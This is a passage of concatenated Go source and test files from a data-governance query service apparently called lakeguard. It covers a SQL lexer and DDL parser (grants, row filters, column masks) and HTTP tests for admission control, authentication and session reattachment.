		t.Error("show tables")
	}
	d := mustParse(t, "DESCRIBE main.s.t").Cmd.(*plan.DescribeTable)
	if len(d.Name) != 3 {
		t.Errorf("describe = %+v", d)
	}
	d2 := mustParse(t, "DESC TABLE t").Cmd.(*plan.DescribeTable)
	if len(d2.Name) != 1 {
		t.Errorf("desc = %+v", d2)
	}
	if _, err := Parse("SHOW NONSENSE"); err == nil {
		t.Error("expected error")
	}
}
