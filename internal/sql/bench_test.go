package sql

import "testing"

const benchQuery = `
WITH us AS (SELECT seller, amount, date FROM main.clinical.sales WHERE region = 'US')
SELECT u.seller, SUM(u.amount) AS total, COUNT(*) AS n
FROM us u JOIN quotas q ON u.seller = q.seller
WHERE u.date BETWEEN '2024-01-01' AND '2024-12-31' AND q.quota > 100
GROUP BY u.seller
HAVING SUM(u.amount) > 1000
ORDER BY total DESC
LIMIT 25`

func BenchmarkParseQuery(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := Parse(benchQuery); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkParseExpr(b *testing.B) {
	const expr = "region = 'US' AND amount BETWEEN 10 AND 100 OR IS_ACCOUNT_GROUP_MEMBER('admins') AND seller LIKE 'a%'"
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := ParseExpr(expr); err != nil {
			b.Fatal(err)
		}
	}
}
