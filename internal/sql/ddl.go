package sql

import (
	"strings"

	"lakeguard/internal/plan"
	"lakeguard/internal/types"
)

// parseCreate handles CREATE TABLE / SCHEMA / [MATERIALIZED] VIEW / FUNCTION.
func (p *parser) parseCreate() (*Statement, error) {
	if err := p.expect("CREATE"); err != nil {
		return nil, err
	}
	orReplace := false
	if p.accept("OR") {
		if err := p.expect("REPLACE"); err != nil {
			return nil, err
		}
		orReplace = true
	}
	switch {
	case p.accept("TABLE"):
		return p.parseCreateTable()
	case p.accept("SCHEMA"):
		ifNotExists, err := p.parseIfNotExists()
		if err != nil {
			return nil, err
		}
		name, err := p.qualifiedName()
		if err != nil {
			return nil, err
		}
		return &Statement{Cmd: &plan.CreateSchema{Name: name, IfNotExists: ifNotExists}}, nil
	case p.accept("MATERIALIZED"):
		if err := p.expect("VIEW"); err != nil {
			return nil, err
		}
		return p.parseCreateView(true, orReplace)
	case p.accept("VIEW"):
		return p.parseCreateView(false, orReplace)
	case p.accept("FUNCTION"):
		return p.parseCreateFunction(orReplace)
	}
	return nil, p.errorf("unsupported CREATE target %q", p.cur.Text)
}

func (p *parser) parseIfNotExists() (bool, error) {
	if p.accept("IF") {
		if err := p.expect("NOT"); err != nil {
			return false, err
		}
		if err := p.expect("EXISTS"); err != nil {
			return false, err
		}
		return true, nil
	}
	return false, nil
}

func (p *parser) parseCreateTable() (*Statement, error) {
	ifNotExists, err := p.parseIfNotExists()
	if err != nil {
		return nil, err
	}
	name, err := p.qualifiedName()
	if err != nil {
		return nil, err
	}
	// CTAS: CREATE TABLE t AS SELECT ...
	if p.accept("AS") {
		q, err := p.parseQueryExpr()
		if err != nil {
			return nil, err
		}
		return &Statement{Cmd: &plan.CreateTableAs{Name: name, Query: q, IfNotExists: ifNotExists}}, nil
	}
	if err := p.expect("("); err != nil {
		return nil, err
	}
	schema := &types.Schema{}
	for {
		colName, err := p.ident()
		if err != nil {
			return nil, err
		}
		typeName, err := p.ident()
		if err != nil {
			return nil, err
		}
		kind, ok := types.KindFromName(typeName)
		if !ok {
			return nil, p.errorf("unknown type %q for column %q", typeName, colName)
		}
		f := types.Field{Name: colName, Kind: kind, Nullable: true}
		if p.peekKeyword("NOT") {
			if err := p.advance(); err != nil {
				return nil, err
			}
			if err := p.expect("NULL"); err != nil {
				return nil, err
			}
			f.Nullable = false
		}
		if p.accept("COMMENT") {
			if p.cur.Kind != TokString {
				return nil, p.errorf("COMMENT requires a string literal")
			}
			f.Comment = p.cur.Text
			if err := p.advance(); err != nil {
				return nil, err
			}
		}
		schema.Fields = append(schema.Fields, f)
		if !p.accept(",") {
			break
		}
	}
	if err := p.expect(")"); err != nil {
		return nil, err
	}
	if err := schema.Validate(); err != nil {
		return nil, p.errorf("%v", err)
	}
	return &Statement{Cmd: &plan.CreateTable{Name: name, TableSchema: schema, IfNotExists: ifNotExists}}, nil
}

func (p *parser) parseCreateView(materialized, orReplace bool) (*Statement, error) {
	name, err := p.qualifiedName()
	if err != nil {
		return nil, err
	}
	if err := p.expect("AS"); err != nil {
		return nil, err
	}
	// Capture remaining source text as the view body and validate it parses.
	startPos := p.cur.Pos
	if _, err := p.parseQueryExpr(); err != nil {
		return nil, err
	}
	end := p.cur.Pos
	if p.cur.Kind == TokEOF {
		end = len(p.lex.src)
	}
	body := strings.TrimRight(strings.TrimSpace(p.lex.src[startPos:end]), ";")
	return &Statement{Cmd: &plan.CreateView{
		Name: name, Query: body, Materialized: materialized, OrReplace: orReplace,
	}}, nil
}

// parseCreateFunction parses:
//
//	CREATE [OR REPLACE] FUNCTION name(a BIGINT, b STRING) RETURNS DOUBLE
//	  AS 'pylite source'
func (p *parser) parseCreateFunction(orReplace bool) (*Statement, error) {
	name, err := p.qualifiedName()
	if err != nil {
		return nil, err
	}
	if err := p.expect("("); err != nil {
		return nil, err
	}
	var params []types.Field
	if !(p.cur.Kind == TokOp && p.cur.Text == ")") {
		for {
			pn, err := p.ident()
			if err != nil {
				return nil, err
			}
			tn, err := p.ident()
			if err != nil {
				return nil, err
			}
			kind, ok := types.KindFromName(tn)
			if !ok {
				return nil, p.errorf("unknown parameter type %q", tn)
			}
			params = append(params, types.Field{Name: pn, Kind: kind, Nullable: true})
			if !p.accept(",") {
				break
			}
		}
	}
	if err := p.expect(")"); err != nil {
		return nil, err
	}
	if err := p.expect("RETURNS"); err != nil {
		return nil, err
	}
	rt, err := p.ident()
	if err != nil {
		return nil, err
	}
	kind, ok := types.KindFromName(rt)
	if !ok {
		return nil, p.errorf("unknown return type %q", rt)
	}
	resources := ""
	if p.accept("RESOURCE") {
		if p.cur.Kind != TokString {
			return nil, p.errorf("RESOURCE requires a string literal (e.g. RESOURCE 'gpu')")
		}
		resources = p.cur.Text
		if err := p.advance(); err != nil {
			return nil, err
		}
	}
	if err := p.expect("AS"); err != nil {
		return nil, err
	}
	if p.cur.Kind != TokString {
		return nil, p.errorf("function body must be a string literal")
	}
	body := p.cur.Text
	if err := p.advance(); err != nil {
		return nil, err
	}
	return &Statement{Cmd: &plan.CreateFunction{
		Name: name, Params: params, Returns: kind, Body: body, OrReplace: orReplace,
		Resources: resources,
	}}, nil
}

func (p *parser) parseDrop() (*Statement, error) {
	if err := p.expect("DROP"); err != nil {
		return nil, err
	}
	isView := false
	switch {
	case p.accept("TABLE"):
	case p.accept("VIEW"):
		isView = true
	case p.accept("MATERIALIZED"):
		if err := p.expect("VIEW"); err != nil {
			return nil, err
		}
		isView = true
	default:
		return nil, p.errorf("unsupported DROP target %q", p.cur.Text)
	}
	ifExists := false
	if p.accept("IF") {
		if err := p.expect("EXISTS"); err != nil {
			return nil, err
		}
		ifExists = true
	}
	name, err := p.qualifiedName()
	if err != nil {
		return nil, err
	}
	return &Statement{Cmd: &plan.DropTable{Name: name, IfExists: ifExists, View: isView}}, nil
}

func (p *parser) parseInsert() (*Statement, error) {
	if err := p.expect("INSERT"); err != nil {
		return nil, err
	}
	if err := p.expect("INTO"); err != nil {
		return nil, err
	}
	name, err := p.qualifiedName()
	if err != nil {
		return nil, err
	}
	if p.peekKeyword("VALUES") {
		if err := p.advance(); err != nil {
			return nil, err
		}
		rows, err := p.parseValuesRows()
		if err != nil {
			return nil, err
		}
		return &Statement{Cmd: &plan.InsertInto{Table: name, Rows: rows}}, nil
	}
	q, err := p.parseQueryExpr()
	if err != nil {
		return nil, err
	}
	return &Statement{Cmd: &plan.InsertInto{Table: name, Query: q}}, nil
}

func (p *parser) parseGrantRevoke() (*Statement, error) {
	isGrant := p.peekKeyword("GRANT")
	if err := p.advance(); err != nil {
		return nil, err
	}
	priv, err := p.ident()
	if err != nil {
		return nil, err
	}
	priv = strings.ToUpper(priv)
	switch priv {
	case "SELECT", "MODIFY", "EXECUTE", "USE", "ALL":
	default:
		return nil, p.errorf("unknown privilege %q", priv)
	}
	if err := p.expect("ON"); err != nil {
		return nil, err
	}
	// Optional securable-type keyword (TABLE, VIEW, FUNCTION, SCHEMA, CATALOG).
	for _, kw := range []string{"TABLE", "VIEW", "FUNCTION", "SCHEMA", "CATALOG"} {
		if p.accept(kw) {
			break
		}
	}
	securable, err := p.qualifiedName()
	if err != nil {
		return nil, err
	}
	if isGrant {
		if err := p.expect("TO"); err != nil {
			return nil, err
		}
	} else {
		if err := p.expect("FROM"); err != nil {
			return nil, err
		}
	}
	principal, err := p.principalName()
	if err != nil {
		return nil, err
	}
	if isGrant {
		return &Statement{Cmd: &plan.Grant{Privilege: priv, Securable: securable, Principal: principal}}, nil
	}
	return &Statement{Cmd: &plan.Revoke{Privilege: priv, Securable: securable, Principal: principal}}, nil
}

// principalName accepts an identifier or quoted string (user emails contain
// characters like @ that don't lex as identifiers).
func (p *parser) principalName() (string, error) {
	if p.cur.Kind == TokString {
		s := p.cur.Text
		return s, p.advance()
	}
	return p.ident()
}

// parseAlter handles row-filter and column-mask DDL:
//
//	ALTER TABLE t SET ROW FILTER 'sql-bool-expr'
//	ALTER TABLE t DROP ROW FILTER
//	ALTER TABLE t ALTER COLUMN c SET MASK 'sql-expr'
//	ALTER TABLE t ALTER COLUMN c DROP MASK
func (p *parser) parseAlter() (*Statement, error) {
	if err := p.expect("ALTER"); err != nil {
		return nil, err
	}
	if err := p.expect("TABLE"); err != nil {
		return nil, err
	}
	name, err := p.qualifiedName()
	if err != nil {
		return nil, err
	}
	switch {
	case p.accept("SET"):
		if err := p.expect("ROW"); err != nil {
			return nil, err
		}
		if err := p.expect("FILTER"); err != nil {
			return nil, err
		}
		if p.cur.Kind != TokString {
			return nil, p.errorf("row filter must be a string literal containing a SQL predicate")
		}
		filter := p.cur.Text
		if err := p.advance(); err != nil {
			return nil, err
		}
		if _, err := ParseExpr(filter); err != nil {
			return nil, p.errorf("invalid row filter expression: %v", err)
		}
		return &Statement{Cmd: &plan.SetRowFilter{Table: name, FilterSQL: filter}}, nil
	case p.accept("DROP"):
		if err := p.expect("ROW"); err != nil {
			return nil, err
		}
		if err := p.expect("FILTER"); err != nil {
			return nil, err
		}
		return &Statement{Cmd: &plan.SetRowFilter{Table: name, Drop: true}}, nil
	case p.accept("ALTER"):
		if err := p.expect("COLUMN"); err != nil {
			return nil, err
		}
		col, err := p.ident()
		if err != nil {
			return nil, err
		}
		switch {
		case p.accept("SET"):
			if p.accept("TAGS") {
				if err := p.expect("("); err != nil {
					return nil, err
				}
				var tags []string
				for {
					if p.cur.Kind != TokString {
						return nil, p.errorf("tags must be string literals")
					}
					tags = append(tags, p.cur.Text)
					if err := p.advance(); err != nil {
						return nil, err
					}
					if !p.accept(",") {
						break
					}
				}
				if err := p.expect(")"); err != nil {
					return nil, err
				}
				return &Statement{Cmd: &plan.SetColumnTags{Table: name, Column: col, Tags: tags}}, nil
			}
			if err := p.expect("MASK"); err != nil {
				return nil, err
			}
			if p.cur.Kind != TokString {
				return nil, p.errorf("column mask must be a string literal containing a SQL expression")
			}
			mask := p.cur.Text
			if err := p.advance(); err != nil {
				return nil, err
			}
			if _, err := ParseExpr(mask); err != nil {
				return nil, p.errorf("invalid mask expression: %v", err)
			}
			return &Statement{Cmd: &plan.SetColumnMask{Table: name, Column: col, MaskSQL: mask}}, nil
		case p.accept("DROP"):
			if p.accept("TAGS") {
				return &Statement{Cmd: &plan.SetColumnTags{Table: name, Column: col}}, nil
			}
			if err := p.expect("MASK"); err != nil {
				return nil, err
			}
			return &Statement{Cmd: &plan.SetColumnMask{Table: name, Column: col, Drop: true}}, nil
		}
		return nil, p.errorf("expected SET MASK, SET TAGS, DROP MASK, or DROP TAGS")
	}
	return nil, p.errorf("unsupported ALTER TABLE action %q", p.cur.Text)
}

func (p *parser) parseRefresh() (*Statement, error) {
	if err := p.expect("REFRESH"); err != nil {
		return nil, err
	}
	if err := p.expect("MATERIALIZED"); err != nil {
		return nil, err
	}
	if err := p.expect("VIEW"); err != nil {
		return nil, err
	}
	name, err := p.qualifiedName()
	if err != nil {
		return nil, err
	}
	return &Statement{Cmd: &plan.RefreshMaterializedView{Name: name}}, nil
}
