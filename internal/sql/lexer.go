// Package sql implements the SQL frontend: a lexer and a recursive-descent
// parser that lowers statements directly into unresolved logical plans
// (plan.Node) and commands (plan.Command), mirroring how Spark's parser
// produces unresolved plans for the analyzer.
package sql

import (
	"fmt"
	"strings"
)

// TokenKind classifies lexer tokens.
type TokenKind uint8

// Token kinds.
const (
	TokEOF TokenKind = iota
	TokIdent
	TokQuotedIdent
	TokString
	TokNumber
	TokOp // punctuation and operators
)

// Token is one lexical token with its source position.
type Token struct {
	Kind TokenKind
	Text string // keyword/ident text (original case), operator symbol, or literal payload
	Pos  int    // byte offset in the input
}

// Lexer splits SQL text into tokens.
type Lexer struct {
	src string
	pos int
}

// NewLexer creates a lexer over src.
func NewLexer(src string) *Lexer { return &Lexer{src: src} }

// Next returns the next token or an error for malformed input.
func (l *Lexer) Next() (Token, error) {
	l.skipSpaceAndComments()
	if l.pos >= len(l.src) {
		return Token{Kind: TokEOF, Pos: l.pos}, nil
	}
	start := l.pos
	c := l.src[l.pos]
	switch {
	case isIdentStart(c):
		for l.pos < len(l.src) && isIdentPart(l.src[l.pos]) {
			l.pos++
		}
		return Token{Kind: TokIdent, Text: l.src[start:l.pos], Pos: start}, nil
	case c >= '0' && c <= '9' || c == '.' && l.pos+1 < len(l.src) && isDigit(l.src[l.pos+1]):
		seenDot := false
		for l.pos < len(l.src) {
			ch := l.src[l.pos]
			if isDigit(ch) {
				l.pos++
				continue
			}
			if ch == '.' && !seenDot {
				seenDot = true
				l.pos++
				continue
			}
			if (ch == 'e' || ch == 'E') && l.pos+1 < len(l.src) && (isDigit(l.src[l.pos+1]) || l.src[l.pos+1] == '-' || l.src[l.pos+1] == '+') {
				l.pos += 2
				for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
					l.pos++
				}
				break
			}
			break
		}
		return Token{Kind: TokNumber, Text: l.src[start:l.pos], Pos: start}, nil
	case c == '\'':
		return l.lexString('\'')
	case c == '`' || c == '"':
		tok, err := l.lexString(c)
		if err != nil {
			return tok, err
		}
		tok.Kind = TokQuotedIdent
		return tok, nil
	default:
		// Multi-character operators first.
		for _, op := range []string{"<=", ">=", "<>", "!=", "||"} {
			if strings.HasPrefix(l.src[l.pos:], op) {
				l.pos += len(op)
				return Token{Kind: TokOp, Text: op, Pos: start}, nil
			}
		}
		if strings.ContainsRune("+-*/%(),=<>.;", rune(c)) {
			l.pos++
			return Token{Kind: TokOp, Text: string(c), Pos: start}, nil
		}
		return Token{}, fmt.Errorf("unexpected character %q at position %d", c, l.pos)
	}
}

// lexString reads a quoted token with doubled-quote escaping.
func (l *Lexer) lexString(quote byte) (Token, error) {
	start := l.pos
	l.pos++ // opening quote
	var b strings.Builder
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		if c == quote {
			if l.pos+1 < len(l.src) && l.src[l.pos+1] == quote {
				b.WriteByte(quote)
				l.pos += 2
				continue
			}
			l.pos++
			return Token{Kind: TokString, Text: b.String(), Pos: start}, nil
		}
		b.WriteByte(c)
		l.pos++
	}
	return Token{}, fmt.Errorf("unterminated string starting at position %d", start)
}

func (l *Lexer) skipSpaceAndComments() {
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		switch {
		case c == ' ' || c == '\t' || c == '\n' || c == '\r':
			l.pos++
		case c == '-' && l.pos+1 < len(l.src) && l.src[l.pos+1] == '-':
			for l.pos < len(l.src) && l.src[l.pos] != '\n' {
				l.pos++
			}
		case c == '/' && l.pos+1 < len(l.src) && l.src[l.pos+1] == '*':
			l.pos += 2
			for l.pos+1 < len(l.src) && !(l.src[l.pos] == '*' && l.src[l.pos+1] == '/') {
				l.pos++
			}
			l.pos += 2
			if l.pos > len(l.src) {
				l.pos = len(l.src)
			}
		default:
			return
		}
	}
}

func isIdentStart(c byte) bool {
	return c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z'
}

func isIdentPart(c byte) bool { return isIdentStart(c) || isDigit(c) }

func isDigit(c byte) bool { return c >= '0' && c <= '9' }

// Tokenize lexes the whole input (testing convenience).
func Tokenize(src string) ([]Token, error) {
	l := NewLexer(src)
	var toks []Token
	for {
		t, err := l.Next()
		if err != nil {
			return nil, err
		}
		toks = append(toks, t)
		if t.Kind == TokEOF {
			return toks, nil
		}
	}
}
