package connect

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"lakeguard/internal/admission"
	"lakeguard/internal/audit"
	"lakeguard/internal/proto"
	"lakeguard/internal/telemetry"
	"lakeguard/internal/types"
)

// newAdmissionService wires a service with a 1-slot admission controller,
// metrics, audit, and tracing — the full multi-tenant front door.
func newAdmissionService(t *testing.T, fb *fakeBackend) (*Service, *admission.Controller, *telemetry.Registry, *audit.Log, string) {
	t.Helper()
	met := telemetry.NewRegistry()
	aud := audit.NewLog()
	ctrl := admission.NewController(admission.Config{MaxConcurrent: 1, Metrics: met})
	svc, ts := newTestService(t, fb)
	svc.SetAdmission(ctrl)
	svc.SetAudit(aud)
	svc.SetTracer(telemetry.NewTracer())
	return svc, ctrl, met, aud, ts.URL
}

func (f *fakeBackend) executed() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.executions
}

// A request whose deadline budget cannot survive the predicted queue wait is
// shed in microseconds at the front door: the backend is never invoked, no
// plan is decoded, and the decision is audited exactly once.
func TestDeadlineShedBeforeBackend(t *testing.T) {
	schema, batches := intBatches([]int64{1})
	fb := &fakeBackend{schema: schema, batches: batches}
	_, ctrl, met, aud, url := newAdmissionService(t, fb)

	// Occupy the single execution slot so new arrivals must queue.
	busy, err := ctrl.Acquire(context.Background(), "occupier")
	if err != nil {
		t.Fatal(err)
	}

	c := Dial(url, "tok")
	c.SetTimeout(time.Millisecond) // far below the 10ms service estimate
	c.SetMaxRetries(0)
	start := time.Now()
	_, err = c.Sql("SELECT 1").Collect()
	elapsed := time.Since(start)

	var oe *OverloadedError
	if !errors.As(err, &oe) {
		t.Fatalf("err = %v, want *OverloadedError", err)
	}
	if oe.RetryAfter <= 0 {
		t.Errorf("RetryAfter = %v, want > 0", oe.RetryAfter)
	}
	if elapsed > 200*time.Millisecond {
		t.Errorf("shed took %v, want O(µs) (never queued, never executed)", elapsed)
	}
	if n := fb.executed(); n != 0 {
		t.Errorf("backend executions = %d, want 0 (shed before backend)", n)
	}
	if v := met.Counter("admission.shed").Value(); v != 1 {
		t.Errorf("admission.shed = %d, want 1", v)
	}
	if v := met.Counter("admission.queued").Value(); v != 0 {
		t.Errorf("admission.queued = %d, want 0 (shed pre-enqueue)", v)
	}
	sheds := aud.Events(func(e audit.Event) bool { return e.Action == "ADMISSION_SHED" })
	if len(sheds) != 1 {
		t.Fatalf("ADMISSION_SHED audit events = %d, want exactly 1", len(sheds))
	}
	if e := sheds[0]; e.User != "user@x" || e.Decision != audit.DecisionDeny || e.TraceID == "" {
		t.Errorf("audit event = %+v", e)
	}

	// Once the slot frees, the same client (with a sane budget) succeeds and
	// no second shed is recorded.
	busy.Release()
	c.SetTimeout(0)
	if _, err := c.Sql("SELECT 1").Collect(); err != nil {
		t.Fatalf("post-release query: %v", err)
	}
	if n := aud.Count(func(e audit.Event) bool { return e.Action == "ADMISSION_SHED" }); n != 1 {
		t.Errorf("ADMISSION_SHED count after success = %d, want 1 (no double count)", n)
	}
}

// The raw shed response carries both Retry-After (seconds, standard) and
// X-Retry-After-Millis (precise hint) on a 429 status.
func TestShedResponseHeaders(t *testing.T) {
	schema, batches := intBatches([]int64{1})
	_, ctrl, _, _, url := newAdmissionService(t, &fakeBackend{schema: schema, batches: batches})
	busy, err := ctrl.Acquire(context.Background(), "occupier")
	if err != nil {
		t.Fatal(err)
	}
	defer busy.Release()

	req, _ := http.NewRequest(http.MethodPost, url+"/v1/execute", nil)
	req.Header.Set("Authorization", "Bearer tok")
	req.Header.Set("X-Session-Id", "s1")
	req.Header.Set(TimeoutHeader, "1")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("status = %d, want 429", resp.StatusCode)
	}
	if resp.Header.Get("Retry-After") == "" {
		t.Error("missing Retry-After header")
	}
	if resp.Header.Get(RetryAfterMillisHeader) == "" {
		t.Error("missing X-Retry-After-Millis header")
	}
}

// A shed client retries with backoff and succeeds once capacity frees up.
func TestClientRetriesAfterShed(t *testing.T) {
	schema, batches := intBatches([]int64{7})
	fb := &fakeBackend{schema: schema, batches: batches}
	_, ctrl, _, _, url := newAdmissionService(t, fb)
	busy, err := ctrl.Acquire(context.Background(), "occupier")
	if err != nil {
		t.Fatal(err)
	}

	c := Dial(url, "tok")
	c.SetTimeout(time.Millisecond) // first attempt is deadline-shed
	var slept []time.Duration
	c.sleep = func(d time.Duration) {
		slept = append(slept, d)
		// Capacity returns while the client backs off; lift the tiny
		// deadline so the retry is admitted on the fast path.
		busy.Release()
		c.SetTimeout(0)
	}

	b, err := c.Sql("SELECT 7").Collect()
	if err != nil {
		t.Fatalf("retry did not recover: %v", err)
	}
	if b.NumRows() != 1 || b.Cols[0].Int64(0) != 7 {
		t.Fatalf("result:\n%s", b.String())
	}
	if len(slept) != 1 {
		t.Fatalf("backoff sleeps = %d, want 1", len(slept))
	}
	if slept[0] <= 0 || slept[0] > 2*time.Second {
		t.Errorf("backoff = %v, want in (0, 2s]", slept[0])
	}
}

// analyzeBackend is a Backend + AnalyzeExecutor whose profile reports the
// admission queue wait stamped on the request context — the same contract the
// core server honors.
type analyzeBackend struct{ fakeBackend }

func (a *analyzeBackend) ExecuteAnalyze(ctx context.Context, sessionID, user string, pl *proto.Plan) (*types.Batch, string, error) {
	prof := telemetry.NewProfile()
	prof.QueueWaitNanos = int64(telemetry.QueueWaitFrom(ctx))
	return nil, prof.Render(), nil
}

// ExplainAnalyze surfaces the admission queue wait in its rendered profile
// when the request had to wait for a slot.
func TestExplainAnalyzeShowsQueueWait(t *testing.T) {
	schema, batches := intBatches([]int64{1})
	fb := &analyzeBackend{fakeBackend: fakeBackend{schema: schema, batches: batches}}
	ctrl := admission.NewController(admission.Config{MaxConcurrent: 1})
	svc := NewService(fb, TokenMap{"tok": "user@x"})
	svc.SetAdmission(ctrl)
	ts := httptest.NewServer(svc.Handler())
	t.Cleanup(ts.Close)

	busy, err := ctrl.Acquire(context.Background(), "occupier")
	if err != nil {
		t.Fatal(err)
	}
	go func() {
		time.Sleep(30 * time.Millisecond)
		busy.Release()
	}()

	c := Dial(ts.URL, "tok")
	analyze, _, err := c.SqlExplainAnalyze("SELECT 1")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(analyze, "queue wait") {
		t.Fatalf("analyze output missing queue wait line:\n%s", analyze)
	}
}
