package connect

import (
	"bytes"
	"context"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"lakeguard/internal/arrowipc"
	"lakeguard/internal/plan"
	"lakeguard/internal/proto"
	"lakeguard/internal/types"
)

// fakeBackend returns canned batches and records calls (thread-safe: the
// sweeper closes sessions from its own goroutine).
type fakeBackend struct {
	schema  *types.Schema
	batches []*types.Batch
	err     error

	mu         sync.Mutex
	closed     []string
	executions int
}

func (f *fakeBackend) Execute(ctx context.Context, sessionID, user string, pl *proto.Plan) (*types.Schema, []*types.Batch, error) {
	f.mu.Lock()
	f.executions++
	f.mu.Unlock()
	if f.err != nil {
		return nil, nil, f.err
	}
	return f.schema, f.batches, nil
}

func (f *fakeBackend) Analyze(sessionID, user string, rel plan.Node) (*types.Schema, string, error) {
	if f.err != nil {
		return nil, "", f.err
	}
	return f.schema, "Explain: " + rel.String(), nil
}

func (f *fakeBackend) CloseSession(sessionID string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.closed = append(f.closed, sessionID)
}

func (f *fakeBackend) closedSessions() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return len(f.closed)
}

func intBatches(groups ...[]int64) (*types.Schema, []*types.Batch) {
	schema := types.NewSchema(types.Field{Name: "n", Kind: types.KindInt64})
	var out []*types.Batch
	for _, vals := range groups {
		bb := types.NewBatchBuilder(schema, len(vals))
		for _, v := range vals {
			bb.AppendRow([]types.Value{types.Int64(v)})
		}
		out = append(out, bb.Build())
	}
	return schema, out
}

func newTestService(t *testing.T, backend Backend) (*Service, *httptest.Server) {
	t.Helper()
	svc := NewService(backend, TokenMap{"tok": "user@x", "tok2": "other@x"})
	ts := httptest.NewServer(svc.Handler())
	t.Cleanup(ts.Close)
	return svc, ts
}

func TestClientServerRoundTrip(t *testing.T) {
	schema, batches := intBatches([]int64{1, 2}, []int64{3})
	fb := &fakeBackend{schema: schema, batches: batches}
	_, ts := newTestService(t, fb)
	c := Dial(ts.URL, "tok")
	b, err := c.Sql("SELECT n FROM t").Collect()
	if err != nil {
		t.Fatal(err)
	}
	if b.NumRows() != 3 || b.Cols[0].Int64(2) != 3 {
		t.Fatalf("result:\n%s", b.String())
	}
}

func TestAuthRequired(t *testing.T) {
	schema, batches := intBatches([]int64{1})
	_, ts := newTestService(t, &fakeBackend{schema: schema, batches: batches})
	// Bad token.
	c := Dial(ts.URL, "wrong")
	if _, err := c.Sql("SELECT 1").Collect(); err == nil {
		t.Error("bad token accepted")
	}
	// Missing session header.
	req, _ := http.NewRequest("POST", ts.URL+"/v1/execute", bytes.NewReader(nil))
	req.Header.Set("Authorization", "Bearer tok")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("status = %d", resp.StatusCode)
	}
}

func TestBackendErrorPropagates(t *testing.T) {
	fb := &fakeBackend{err: errors.New("permission denied: nope")}
	_, ts := newTestService(t, fb)
	c := Dial(ts.URL, "tok")
	_, err := c.Sql("SELECT 1").Collect()
	if err == nil || !strings.Contains(err.Error(), "permission denied") {
		t.Fatalf("err = %v", err)
	}
}

// execRaw posts a plan and returns the raw response without reading the
// stream fully.
func execRaw(t *testing.T, ts *httptest.Server, token, session string) (*http.Response, string) {
	t.Helper()
	body, err := proto.EncodeRootPlan(&proto.Plan{Relation: &plan.SQLRelation{Query: "SELECT 1"}})
	if err != nil {
		t.Fatal(err)
	}
	req, _ := http.NewRequest("POST", ts.URL+"/v1/execute", bytes.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+token)
	req.Header.Set("X-Session-Id", session)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	return resp, resp.Header.Get("X-Operation-Id")
}

func TestReattachResumesFromOffset(t *testing.T) {
	schema, batches := intBatches([]int64{1}, []int64{2}, []int64{3})
	_, ts := newTestService(t, &fakeBackend{schema: schema, batches: batches})
	resp, opID := execRaw(t, ts, "tok", "s1")
	// Read only part of the stream, then drop the connection.
	_, partial, _ := func() (*types.Schema, []*types.Batch, error) {
		rd, err := arrowipc.NewReader(resp.Body)
		if err != nil {
			return nil, nil, err
		}
		b, err := rd.Next()
		return rd.Schema(), []*types.Batch{b}, err
	}()
	resp.Body.Close()
	if len(partial) != 1 {
		t.Fatal("setup: expected one batch read")
	}

	// Reattach from batch 1.
	req, _ := http.NewRequest("GET", ts.URL+"/v1/reattach?operation="+opID+"&start=1", nil)
	req.Header.Set("Authorization", "Bearer tok")
	req.Header.Set("X-Session-Id", "s1")
	resp2, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp2.Body.Close()
	rd, err := arrowipc.NewReader(resp2.Body)
	if err != nil {
		t.Fatal(err)
	}
	rest, err := rd.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rest) != 2 || rest[0].Cols[0].Int64(0) != 2 || rest[1].Cols[0].Int64(0) != 3 {
		t.Fatalf("reattach delivered %d batches", len(rest))
	}
}

func TestReattachCrossSessionForbidden(t *testing.T) {
	schema, batches := intBatches([]int64{1})
	_, ts := newTestService(t, &fakeBackend{schema: schema, batches: batches})
	resp, opID := execRaw(t, ts, "tok", "s1")
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()

	// A different user (different session namespace) cannot reattach.
	req, _ := http.NewRequest("GET", ts.URL+"/v1/reattach?operation="+opID+"&start=0", nil)
	req.Header.Set("Authorization", "Bearer tok2")
	req.Header.Set("X-Session-Id", "s1")
	resp2, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp2.Body.Close()
	if resp2.StatusCode != http.StatusForbidden {
		t.Errorf("status = %d", resp2.StatusCode)
	}
}

func TestTombstoningAfterIdle(t *testing.T) {
	schema, batches := intBatches([]int64{1})
	svc, ts := newTestService(t, &fakeBackend{schema: schema, batches: batches})
	now := time.Unix(1000, 0)
	svc.SetClock(func() time.Time { return now })

	resp, opID := execRaw(t, ts, "tok", "s1")
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()

	now = now.Add(time.Hour)
	ops, _ := svc.SweepIdle(10 * time.Minute)
	if ops != 1 {
		t.Fatalf("tombstoned %d operations", ops)
	}
	st, ok := svc.OperationStateOf(opID)
	if !ok || st != OpTombstoned {
		t.Fatalf("state = %v", st)
	}
	// Reattach now fails with Gone.
	req, _ := http.NewRequest("GET", ts.URL+"/v1/reattach?operation="+opID+"&start=0", nil)
	req.Header.Set("Authorization", "Bearer tok")
	req.Header.Set("X-Session-Id", "s1")
